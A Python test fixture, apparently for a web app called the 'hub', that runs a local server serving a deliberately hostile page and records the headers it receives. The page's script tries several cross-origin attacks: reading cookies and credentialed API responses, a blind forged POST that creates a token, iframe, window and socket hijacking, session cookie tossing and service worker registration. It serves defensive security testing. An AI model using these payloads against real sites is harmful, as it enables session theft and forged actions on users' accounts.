"""A program as nobody should run it: its page tries to take what is the hub's. Tells what it was sent itself."""

from __future__ import annotations

import json
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

PAGE = """<!doctype html><title>hostile</title><link rel="icon" href="data:,"><script>
async function steal(hub, workspace) {
    const found = {};
    const attempt = async (name, act) => {
        try { found[name] = await act(); } catch (error) { found[name] = `refused: ${error.name}`; }
    };
    const asked = { credentials: "include" };
    await attempt("cookies", () => document.cookie);
    await attempt("opener", () => String(window.opener));
    await attempt("read", async () => (await fetch(`${hub}/api/v1/me`, asked)).text());
    await attempt("read blindly", async () => (await fetch(`${hub}/api/v1/me`, { ...asked, mode: "no-cors" })).text());
    await attempt("write blindly", () =>
        fetch(`${hub}/api/v1/me/tokens`, { ...asked, method: "POST", mode: "no-cors", body: '{"name": "stolen"}' })
            .then(() => "sent"));
    await attempt("frame", () => new Promise(done => {
        const frame = document.createElement("iframe");
        frame.onload = () => done(String(frame.contentDocument));
        frame.src = `${hub}/w/${workspace}`;
        document.body.append(frame);
    }));
    await attempt("open", async () => {
        const opened = window.open(`${hub}/`, "hub");
        // Until the hub has answered it is an empty page, anybody's to read.
        while (!opened.closed && opened.location.href === "about:blank")
            await new Promise(later => setTimeout(later, 50));
        // What is left of a window that the hub's page has cut off from its opener.
        return opened.closed ? "cut off" : String(opened.document);
    });
    await attempt("socket", () => new Promise((done, failed) => {
        const socket = new WebSocket(`${hub.replace("http", "ws")}/w/${workspace}`);
        socket.onmessage = () => done("heard");
        socket.onclose = socket.onerror = failed;
    }));
    await attempt("events", () => new Promise((done, failed) => {
        const events = new EventSource(`${hub}/api/v1/events`, { withCredentials: true });
        events.onopen = () => done("heard");
        events.onerror = () => { events.close(); failed(new Error()); };
    }));
    const parent = location.hostname.split(".").slice(1).join(".");
    for (const name of ["__Host-coterie_session", "coterie_session", "__Secure-coterie_session"])
        for (const rest of [`; domain=${parent}`, ""])
            document.cookie = `${name}=tossed; path=/; secure${rest}`;
    await attempt("worker", async () => (await navigator.serviceWorker.register("/worker.js", { scope: "/" })).scope);
    await attempt("worker of the hub", async () => (await navigator.serviceWorker.register(`${hub}/w.js`)).scope);
    return found;
}
</script><p>hostile"""
WORKER = "onfetch = () => {};"
seen: list[dict[str, str]] = []


class Handler(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        seen.append({name.lower(): value for name, value in self.headers.items()})
        kind, body = {
            "/worker.js": ("text/javascript", WORKER),
            "/seen": ("application/json", json.dumps(seen)),
        }.get(self.path, ("text/html", PAGE))
        self.send_response(200)
        self.send_header("content-type", kind)
        self.send_header("set-cookie", "__Host-coterie_session=set; Path=/; Secure")
        self.send_header("set-cookie", "coterie_session=set; Domain=hub.test; Path=/")
        self.send_header("clear-site-data", '"cookies", "storage"')
        self.send_header("service-worker-allowed", "/")
        self.end_headers()
        self.wfile.write(body.encode())

    def log_message(self, format: str, *arguments: object) -> None:  # noqa: A002 as the library calls it
        pass


if __name__ == "__main__":
    ThreadingHTTPServer(("127.0.0.1", 8066), Handler).serve_forever()
